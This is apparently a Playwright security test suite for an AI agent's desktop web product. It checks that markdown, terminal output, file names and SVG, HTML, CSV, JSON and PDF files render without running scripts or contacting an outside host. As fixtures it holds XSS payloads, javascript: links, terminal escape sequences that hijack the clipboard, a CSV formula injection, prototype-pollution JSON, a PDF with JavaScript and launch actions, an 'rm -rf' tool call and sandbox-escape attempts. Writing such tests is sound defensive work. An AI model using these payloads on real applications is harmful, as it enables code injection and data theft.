/**
 * Text that means harm: by a model, by a program, in files and their names, in titles and notices.
 *
 * Law: none of it runs, none of it reaches another host, and what was written is still there to be read.
 */
import type { Locator, Page, Request } from "playwright-core"
import { describe, expect, it } from "vitest"
import { scripted } from "../support/model.ts"
import { type Product, sharedBy, startProduct, temporaryFolder } from "../support/product.ts"
import { openWindow, put, type Stranger, stranger, windowOf } from "./appFlows.ts"
import { newVisitor, type Visitor } from "./browser.ts"
import { live, rectOf, visit } from "./desktop.ts"
import { begin, listOf, said, threadPath } from "./flows.ts"

const pwned = "window.__pwned=1"
/** Runs where text is taken for markup. */
const markup = `<img src=x onerror="${pwned}">`
/** Turns round what comes after it. */
const override = "\u202e"

interface Watched extends Visitor {
  /** Nothing ran, nobody heard of it, nothing opened; and what our own page is refused is as said. */
  readonly unharmed: (refused?: ReadonlyArray<string>) => Promise<void>
}

const watched = async (product: Product, path = "/", other: Stranger | null = null): Promise<Watched> => {
  const visitor = await newVisitor({ worker: true })
  const { context, page } = visitor
  const went: Array<Request> = []
  const dialogs: Array<string> = []
  const opened: Array<string> = []
  const before = other?.heard.length ?? 0
  context.on("request", (request) => {
    const { origin, protocol } = new URL(request.url())
    if (protocol !== "data:" && protocol !== "blob:" && origin !== product.url) went.push(request)
  })
  context.on("page", (popup) => opened.push(popup.url()))
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await page.addInitScript(() => {
    const breaches: Array<string> = []
    Object.assign(globalThis, { breaches })
    document.addEventListener("securitypolicyviolation", ({ blockedURI, violatedDirective }) => {
      const breach = `${violatedDirective} ${blockedURI}`
      if (!breaches.includes(breach)) breaches.push(breach)
    })
  })
  await page.goto(`${product.url}${path}`)
  await live(page)
  return {
    ...visitor,
    unharmed: async (refused = []) => {
      expect(await page.evaluate("window.__pwned")).toBeUndefined()
      expect(await page.evaluate("breaches")).toEqual(refused)
      // What the policy of a page has stopped did not go anywhere.
      const gone = went.filter((request) => request.failure()?.errorText !== "csp").map((request) => request.url())
      expect({ gone, dialogs, opened, heard: other?.heard.slice(before) ?? [] }).toEqual({
        gone: [],
        dialogs: [],
        opened: [],
        heard: []
      })
      expect(new URL(page.url()).origin).toBe(product.url)
    }
  }
}

/** A press on what is drawn there, whatever takes it. */
const pressAt = async (page: Page, drawn: Locator) => {
  const { height, width, x, y } = await rectOf(drawn)
  await page.mouse.click(x + width / 2, y + height / 2)
}

/** Elements that can run or fetch something, within what shows the text of others. */
const active = (within: Locator): Promise<ReadonlyArray<string>> =>
  within.evaluate((element) =>
    [...element.querySelectorAll("*")].flatMap((one) => [
      ...(["script", "iframe", "object", "embed", "base", "meta", "link", "style"].includes(one.localName) ||
      (one.localName === "form" && one.hasAttribute("action"))
        ? [one.localName]
        : []),
      ...[...one.attributes]
        .filter(({ name, value }) => /^on/i.test(name) || /^\s*(?:javascript|vbscript):/i.test(value))
        .map(({ name }) => `${one.localName} ${name}`)
    ])
  )

const markdownOf = ({ host, url }: Stranger): string =>
  [
    "The text begins.",
    `<script>${pwned}</script>`,
    markup,
    `<svg onload="${pwned}"><script>${pwned}</script><image href="${url}/svg.png"/></svg>`,
    `<form action="${url}/form"><input name="q" autofocus onfocus="${pwned}"><button>Send it</button></form>`,
    `<style>@import "${url}/style.css"; body { display: none }</style>`,
    `<div style="background: url(${url}/background.png)">styled</div>`,
    `<link rel="stylesheet" href="${url}/link.css"><meta http-equiv="refresh" content="0;url=${url}/meta"><base href="${url}/">`,
    `<iframe src="${url}/frame"></iframe><object data="${url}/object"></object><embed src="${url}/embed">`,
    `<video src="${url}/video" poster="${url}/poster" autoplay></video><audio src="${url}/audio" autoplay></audio>`,
    `<details open ontoggle="${pwned}"><summary>more</summary>within</details>`,
    `![beacon](${url}/beacon.png)`,
    `![reference][far]`,
    `[run it](javascript:${pwned})`,
    `[run it too](<java\nscript:${pwned}>)`,
    `[page](data:text/html,<script>${pwned}</script>)`,
    `[old](vbscript:${pwned})`,
    `[blob](blob:null/abc) [file](file:///etc/passwd)`,
    `[https://bank.example/login](${url}/bank)`,
    `[bank.example](https://bank.example@${host}/at)`,
    `[plain words](${url}/plain)`,
    `<${url}/auto>`,
    `<a href="${url}/opener" target="_self" rel="opener" onclick="${pwned}" id="root" ping="${url}/ping">named</a>`,
    `Reordered: ${override}gnp.exe`,
    "```html",
    `<script>${pwned}</script>`,
    "```",
    "`<script>in code</script>`",
    `$$\\href{javascript:${pwned}}{x} \\htmlData{x=y}{z} \\includegraphics{${url}/math.png}$$`,
    "```mermaid",
    `graph TD; A["${markup}"] --> B; click A "javascript:${pwned}"`,
    "```",
    "The text ends.",
    "",
    `[far]: ${url}/reference.png`
  ].join("\n\n")

const output = [
  "printf '\\033[31mred\\033[0m plain\\n'",
  `printf '%s\\n' '${markup}'`,
  "printf '\\033]0;TITLE\\007\\033]52;c;cHduZWQ=\\007after-the-title\\n'",
  "printf '\\033]8;;javascript:window.__pwned=1\\033\\\\bad-link\\033]8;;\\033\\\\\\n'",
  "printf '\\033]8;;https://other.example/x\\033\\\\https://bank.example\\033]8;;\\033\\\\\\n'",
  "printf 'turned \\342\\200\\256 round\\n'",
  "printf 'bell \\007 null \\001 \\033[2J\\033[H\\033[999C end-of-it\\n'"
].join("; ")

describe("what a model says and a program prints", () => {
  const shared = sharedBy(async () => {
    const other = await stranger()
    return { other }
  })

  const answering = async (text: string, call?: { name: string; args: unknown }) => {
    const model = await scripted({
      turns: [
        ...(call === undefined ? [] : [{ when: { step: 0 }, answer: { text: "I do it.", tool_calls: [call] } }]),
        { when: { step: call === undefined ? 0 : 1 }, answer: { reasoning: text, text } }
      ]
    })
    return startProduct({ env: model.env })
  }

  it("markdown is text with its form, and nothing else, in Chat and in Run", async () => {
    const { other } = shared()
    const product = await answering(markdownOf(other))
    const run = await begin(product.url, `Answer ${markup}`)
    const { page, unharmed } = await watched(product, threadPath(run), other)
    const log = said(page)
    await log.getByRole("button", { name: "Copy the answer" }).waitFor()
    await log.getByText("The text begins.").first().waitFor()
    await log.getByText("The text ends.").first().waitFor()
    await log.getByText(`Answer ${markup}`).first().waitFor()
    expect(await active(log)).toEqual([])
    expect(await log.locator("img[src]").count()).toBe(0)

    // Code is shown as it stands.
    await log.getByText(`<script>${pwned}</script>`).first().waitFor()
    await log.getByText("<script>in code</script>").first().waitFor()
    // Every link goes to the web in a tab of its own that can't reach back, and what pretends another host says the real one.
    const links = await log.getByRole("link").evaluateAll((all) =>
      all.map((one) => ({
        href: one.getAttribute("href") ?? "",
        rel: one.getAttribute("rel"),
        target: one.getAttribute("target"),
        id: one.id,
        ping: one.getAttribute("ping")
      }))
    )
    expect(links.length).toBeGreaterThan(4)
    for (const link of links) {
      expect(link).toMatchObject({ rel: "noopener noreferrer nofollow", target: "_blank", id: "", ping: null })
      expect(link.href).toMatch(/^https?:/)
    }
    await log.getByText(`https://bank.example/login (${other.host})`).first().waitFor()
    await log.getByText(`bank.example (${other.host})`).first().waitFor()
    await log.getByText(`Image: beacon (${other.host})`).first().waitFor()
    for (const name of ["run it", "run it too", "page", "old", "blob", "file"]) {
      expect(await log.getByRole("link", { name, exact: true }).count(), name).toBe(0)
    }
    await unharmed()

    await page.goto(`${product.url}/r/${run.run_id}`)
    await live(page)
    const story = page.getByRole("region", { name: /^Answer/ }).first()
    await story.getByText("The text ends.").first().waitFor()
    expect(await active(story)).toEqual([])
    await unharmed()
  })

  it("a link that is followed opens a tab that has no opener, and tells nobody where it was", async () => {
    const { other } = shared()
    const product = await answering(`[follow me](${other.url}/followed)`)
    const run = await begin(product.url, "Give me a link")
    const { context, page } = await visit(product, { path: threadPath(run) })
    const opening = context.waitForEvent("page")
    await said(page).getByRole("link", { name: "follow me" }).click()
    const tab = await opening
    await tab.getByText("the stranger").waitFor()
    expect(await tab.evaluate(() => window.opener)).toBeNull()
    expect(await tab.evaluate(() => document.referrer)).toBe("")
  })

  it("the output of a program is text: colours, no commands to the screen, no links that lie", async () => {
    const { other } = shared()
    const product = await answering("Done with it.", { name: "bash", args: { command: output } })
    const run = await begin(product.url, "Print it")
    const { page, unharmed } = await watched(product, threadPath(run), other)
    const log = said(page)
    await log.getByText("Done with it.").first().waitFor()
    const card = log.getByRole("article").filter({ hasText: "printf" }).first()
    if ((await card.getByRole("button").first().getAttribute("aria-expanded")) !== "true") {
      await card.getByRole("button").first().click()
    }
    const printed = card.locator("pre").last()
    await printed.getByText("end-of-it").waitFor()
    const text = (await printed.textContent()) ?? ""
    expect(text).toContain(markup)
    expect(text).toContain("after-the-title")
    expect(text).not.toContain("TITLE")
    expect(text).not.toContain("cHduZWQ")
    expect(text).not.toContain(override)
    expect(text).not.toMatch(/[\u0000-\u0008\u000e-\u001f\u007f-\u009f]/)
    expect(await card.getByRole("link", { name: "bad-link" }).count()).toBe(0)
    expect(await active(log)).toEqual([])
    expect(await page.evaluate(() => navigator.clipboard.readText().catch(() => ""))).not.toContain("pwned")
    await unharmed()
  })

  it("an approval says what is asked, as it stands; a notice and a window's title too", async () => {
    const model = await scripted({
      turns: [
        {
          when: { step: 0 },
          answer: {
            text: `Why: ${markup} <b>please</b>`,
            tool_calls: [
              {
                name: "ui",
                args: { action: "notify", title: `Notice ${markup}${override}x`, text: `<b>${markup}</b>` }
              },
              { name: "ui", args: { action: "open_window", app: "logs", title: `Window ${markup}${override}x` } }
            ]
          }
        },
        {
          when: { step: 1 },
          answer: { tool_calls: [{ name: "bash", args: { command: `rm -rf '${markup}' $'${override}x'` } }] }
        }
      ]
    })
    const product = await startProduct({ env: model.env })
    const { page, unharmed } = await watched(product)
    await begin(product.url, `Do harm ${markup}`)
    await page.getByText(`Notice ${markup}x`).first().waitFor()
    await page.getByRole("button", { name: /waits? for you$/ }).click()
    const waiting = page.getByRole("dialog", { name: "What waits for you" })
    await waiting.getByRole("button").first().waitFor()
    expect(await waiting.textContent()).not.toContain(override)
    expect(await active(waiting)).toEqual([])
    await waiting.getByRole("button", { name: "Open the inbox" }).click()
    const inbox = page.getByRole("region", { name: /^Inbox/ })
    const card = inbox.getByRole("article").first()
    await card.getByText(markup).first().waitFor()
    expect(await card.textContent()).not.toContain(override)
    expect(await active(page.locator("body"))).toEqual([])
    await unharmed()
  })
})

describe("the terminal", () => {
  const shared = sharedBy(() => startProduct())

  it("a title is a name, the clipboard is the person's, and a link is asked about", async () => {
    const product = shared()
    const { page, unharmed } = await watched(product)
    await page.evaluate(() => navigator.clipboard.writeText("mine"))
    put(
      product,
      "evil.txt",
      [
        `\u001b]0;Title ${markup}${override}x\u0007`,
        `\u001b]2;Title ${markup}${override}x\u0007`,
        `\u001b]52;c;${Buffer.from("theirs").toString("base64")}\u0007`,
        "\u001b]52;c;?\u0007",
        "\u001b]8;;javascript:window.__pwned=1\u001b\\click-this\u001b]8;;\u001b\\\r\n",
        "\u001b]8;;https://other.example/x\u001b\\https://bank.example\u001b]8;;\u001b\\\r\n",
        "\u001b[c\u001b[>c\u001b[6n\u001b[21t\u001b]10;?\u0007\u001bP$qm\u001b\\",
        "the-end\r\n"
      ].join("")
    )
    const id = await openWindow(product, "terminal", {}, "Terminal")
    const window = windowOf(page, id)
    const input = window.getByRole("textbox", { name: "Terminal input" })
    const rows = () => window.locator(".xterm-rows").textContent()
    await expect.poll(rows).toMatch(/[#$]/)
    await input.pressSequentially("cat evil.txt; sleep 1000")
    await input.press("Enter")
    await expect.poll(rows).toContain("the-end")
    await expect.poll(() => window.getAttribute("aria-label")).toContain(`Title ${markup}x`)
    expect(await window.getByRole("tab").textContent()).toContain(`Title ${markup}x`)
    expect(await page.title()).not.toContain(override)
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("mine")
    await pressAt(page, window.getByText("click-this"))
    expect(await page.getByRole("dialog").count()).toBe(0)
    await pressAt(page, window.getByText("https://bank.example"))
    const asked = page.getByRole("dialog", { name: "Open other.example?" })
    await asked.getByText("https://other.example/x").waitFor()
    await asked.getByRole("button", { name: "Cancel" }).click()
    // A program is told what a terminal is, and nothing of the person's: neither title nor clipboard.
    await input.press("Control+c")
    await expect.poll(rows).toMatch(/\^C/)
    expect(await rows()).not.toMatch(new RegExp(`\\]l|\\]52|${Buffer.from("mine").toString("base64")}`))
    expect(await active(window.locator(".xterm-rows"))).toEqual([])
    expect(await active(window.getByRole("tablist"))).toEqual([])
    await unharmed()
    await window.getByRole("button", { name: "Close", exact: true }).click()
    await expect
      .poll(async () => (await listOf(`${product.url}/api/terminals`, "terminals")).filter((one) => one.is_running))
      .toEqual([])
  })
})

const names = [
  `${markup.replaceAll("/", "")}.txt`,
  `photo${override}gpj.sh`,
  "two\nlines\tand tab.txt",
  "javascript:alert(1)",
  "-rf",
  "__proto__",
  "%2e%2e%2fetc.txt",
  "a?b#c&d=e.txt",
  `${"long ".repeat(49)}name.txt`
]

describe("files", () => {
  const shared = sharedBy(async () => {
    const other = await stranger()
    const product = await startProduct({ home: `${temporaryFolder()}/home` })
    for (const name of names) put(product, `names/${name}`, `text of ${markup}\n`)
    return { ...(await watched(product, "/", other)), other, product }
  })

  const viewing = async (name: string, content: string) => {
    const { page, product } = shared()
    put(product, name, content)
    const id = await openWindow(product, "viewer", { path: name }, name)
    const window = windowOf(page, id)
    await window.waitFor()
    return { ...shared(), window }
  }

  it("names are names: in lists, titles, menus, dialogs, and each opens", async () => {
    const { page, product, unharmed } = shared()
    const id = await openWindow(product, "files", { path: "names" }, "Files")
    const files = windowOf(page, id)
    const list = files.getByRole("listbox")
    await expect.poll(() => list.getByRole("option").count()).toBe(names.length)
    const shown = (await list.getByRole("option").allTextContents()).join("\n")
    expect(shown).toContain("photogpj.sh")
    expect(shown).toContain("two lines and tab.txt")
    expect(shown).toContain("<img src=x onerror=")
    expect(shown).not.toContain(override)
    for (const [name, title] of [
      ["two lines and tab.txt", "two lines and tab.txt"],
      [markup, markup],
      ["photogpj.sh", "photogpj.sh"],
      ["a?b#c&d=e.txt", "a?b#c&d=e.txt"],
      ["%2e%2e%2fetc.txt", "%2e%2e%2fetc.txt"]
    ] as const) {
      await list.getByRole("option").filter({ hasText: name }).dblclick()
      const editor = page.getByRole("region", { name: title })
      await editor.locator(".cm-content").getByText(`text of ${markup}`).waitFor()
      await editor.getByRole("button", { name: "Close", exact: true }).click()
      await editor.waitFor({ state: "detached" })
    }
    await list.getByRole("option").filter({ hasText: markup }).click()
    await page.keyboard.press("F2")
    const dialog = page.getByRole("dialog")
    await dialog.getByText(`Rename ${markup}`).waitFor()
    await page.keyboard.press("Escape")
    await files.getByRole("button", { name: "Search" }).click()
    await files.getByRole("searchbox").fill("onerror")
    await files.getByRole("option").filter({ hasText: markup }).waitFor()
    await files.getByRole("radio", { name: "Contents" }).click()
    await expect.poll(() => files.getByRole("option").count()).toBe(names.length)
    expect(await active(files)).toEqual([])
    await unharmed()
  })

  it("an SVG is a picture: its script does not run, and what it names elsewhere is not fetched", async () => {
    const { url } = shared().other
    const { unharmed, window } = await viewing(
      "picture.svg",
      `<?xml version="1.0"?><?xml-stylesheet href="${url}/x.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30" onload="top.__pwned=1">
       <script>top.__pwned=1</script><script href="${url}/x.js"/>
       <image xlink:href="${url}/x.png" width="9" height="9"/><use href="${url}/x.svg#a"/>
       <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/frame"></iframe></foreignObject>
       <rect width="40" height="30" fill="red"/></svg>`
    )
    await window.getByText("40 × 30 pixels").waitFor()
    expect(await active(window)).toEqual([])
    await unharmed()
  })

  it("a page is shown apart: its script runs, and reaches nothing", { timeout: 60_000 }, async () => {
    const product = await startProduct()
    const other = await stranger()
    const { url } = other
    const tries = `
      const found = {}
      const attempt = async (name, run) => {
        try { found[name] = "did it: " + String(await run()) } catch (error) { found[name] = "failed" }
      }
      const tryAll = async () => {
        await attempt("parent", () => parent.document.title)
        await attempt("parent script", () => { parent.__pwned = 1 })
        await attempt("top", () => { top.location.href = "${url}/top" ; return top.location.href })
        await attempt("cookie", () => document.cookie)
        await attempt("cookie set", () => { document.cookie = "a=b"; return document.cookie })
        await attempt("storage", () => localStorage.length)
        await attempt("database", () => new Promise((good, bad) => { const one = indexedDB.open("x"); one.onsuccess = good; one.onerror = bad }))
        await attempt("health", () => fetch("/health").then((reply) => reply.text()))
        await attempt("events", () => fetch(location.origin + "/events").then((reply) => reply.text()))
        await attempt("blind", () => fetch("/runs", { method: "POST", mode: "no-cors", body: "{}" }).then(() => "sent"))
        await attempt("elsewhere", () => fetch("${url}/fetch", { mode: "no-cors" }).then(() => "sent"))
        await attempt("worker", () => navigator.serviceWorker.register("/sw.js"))
        await attempt("popup", () => { const one = open("${url}/popup"); if (one === null) throw new Error(); return "opened" })
        await attempt("socket", () => new Promise((good, bad) => { const one = new WebSocket(location.href.replace(/^http/, "ws").replace(/files.*/, "ws/events")); one.onopen = () => good("open"); one.onerror = bad }))
        await attempt("import", () => import("${url}/x.js"))
        await attempt("image", () => new Promise((good, bad) => { const one = new Image(); one.onload = () => good("loaded"); one.onerror = bad; one.src = "${url}/image.png" }))
        await attempt("alert", () => { alert("hello"); throw new Error() })
        navigator.sendBeacon("${url}/beacon", "x")
        document.forms[0].submit()
        document.forms[1].submit()
        document.querySelector("#out").textContent = JSON.stringify(found)
      }
      tryAll()`
    put(
      product,
      "page.html",
      `<!doctype html><title>x</title><p>It begins.</p><pre id="out"></pre>
       <form method="post" action="/runs"><input name="objective" value="harm"></form><form action="${url}/form"></form>
       <link rel="stylesheet" href="${url}/x.css"><link rel="prefetch" href="${url}/prefetch"><link rel="dns-prefetch" href="${url}">
       <iframe src="${url}/inner"></iframe><iframe src="/"></iframe><object data="${url}/object"></object>
       <script>${tries}</script>`
    )
    const { expectProblem, page, unharmed } = await watched(product, "/", other)
    // What the page tries, the browser refuses aloud.
    expectProblem(/\/files\/view\?path=|^console: Framing 'http/)
    const window = windowOf(page, await openWindow(product, "viewer", { path: "page.html" }, "page.html"))
    const frame = window.frameLocator("iframe")
    await expect.poll(() => frame.locator("#out").textContent()).not.toBe("")
    const found = JSON.parse((await frame.locator("#out").textContent()) ?? "") as Record<string, string>
    expect(Object.keys(found)).toHaveLength(17)
    expect(Object.entries(found).filter(([, result]) => result.startsWith("did it"))).toEqual([])
    expect(await listOf(`${product.url}/runs`, "runs")).toEqual([])
    expect(
      await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((all) => all.map(({ scope }) => scope)))
    ).not.toContain(`${product.url}/files/`)
    // It can't go elsewhere in its own frame either: our page refuses.
    await frame.locator("#out").evaluate((_, to) => {
      location.href = to
    }, `${url}/self`)
    await expect.poll(() => page.evaluate("breaches")).toEqual([`frame-src ${url}`])
    await window.getByRole("radio", { name: "Source" }).click()
    await window.locator(".cm-content").getByText("It begins.").waitFor()
    await unharmed([`frame-src ${url}`])
  })

  it("a page that is opened by itself has no origin either", async () => {
    const { product } = shared()
    put(
      product,
      "alone.html",
      "<!doctype html><p id=o></p><script>o.textContent = origin + ' ' + (() => { try { return localStorage.length } catch { return 'none' } })()</script>"
    )
    const { page } = await newVisitor()
    const reply = await page.goto(`${product.url}/files/view?path=alone.html`)
    expect(reply?.headers()["content-security-policy"]).toContain("sandbox allow-scripts")
    expect(await page.locator("#o").textContent()).toBe("null none")
  })

  it("a table shows its formulas as text", async () => {
    const { unharmed, window } = await viewing(
      "table.csv",
      `name,value\n=HYPERLINK("http://x"),1\n${markup.replaceAll('"', '""').replace(/^(.*)$/, '"$1"')},@SUM(1+1)\n+cmd|' /C calc'!A0,${override}x\n`
    )
    await window.getByRole("cell", { name: "@SUM(1+1)" }).waitFor()
    await window.getByRole("cell", { name: markup }).waitFor()
    expect(await window.getByRole("link").count()).toBe(0)
    expect(await window.textContent()).not.toContain(override)
    expect(await active(window)).toEqual([])
    await unharmed()
  })

  it("JSON with the names of prototypes is data", async () => {
    const { page, unharmed, window } = await viewing(
      "data.json",
      `{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"${markup.replaceAll('"', '\\"')}":"${override}x","toString":1}`
    )
    await window.getByRole("group", { name: "Tree" }).getByText("__proto__").waitFor()
    await window.getByText(markup).first().waitFor()
    expect(await page.evaluate("({}).polluted")).toBeUndefined()
    expect(await window.textContent()).not.toContain(override)
    expect(await active(window)).toEqual([])
    await unharmed()
  })

  it("a PDF is its pages: no script, no link that runs, no form that is sent", async () => {
    const { url } = shared().other
    const { unharmed, window } = await viewing("paper.pdf", pdf(url))
    await window.getByText("Hello from the paper").first().waitFor({ state: "attached" })
    expect(await active(window)).toEqual([])
    await unharmed()
  })

  it("markdown of a file is as tame as an agent's", async () => {
    const { other, unharmed, window } = await viewing("read.md", markdownOf(shared().other))
    const page = window.getByRole("document")
    await page.getByText("The text ends.").waitFor()
    expect(await active(page)).toEqual([])
    expect(await page.locator("img[src]").count()).toBe(0)
    await page.getByText(`https://bank.example/login (${other.host})`).waitFor()
    await unharmed()
  })
})

/** One page with words, that runs a script when it opens, and has links that would. */
const pdf = (url: string): string => {
  const words = "BT /F1 24 Tf 40 100 Td (Hello from the paper) Tj ET"
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); window.__pwned=1; top.__pwned=1) >> /AA << /WC << /S /JavaScript /JS (window.__pwned=1) >> >> /AcroForm << /Fields [8 0 R] /XFA (<xdp/>) >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R] /AA << /O << /S /JavaScript /JS (window.__pwned=1) >> >> >>",
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI (javascript:window.__pwned=1) >> >>",
    `<< /Type /Annot /Subtype /Link /Rect [0 50 200 99] /A << /S /Launch /F (${url}/launch) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [200 0 300 50] /A << /S /SubmitForm /F << /FS /URL /F (${url}/submit) >> >> >>`
  ]
  let text = "%PDF-1.7\n"
  const offsets = objects.map((object, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const xref = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  text += offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("")
  return `${text}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
}
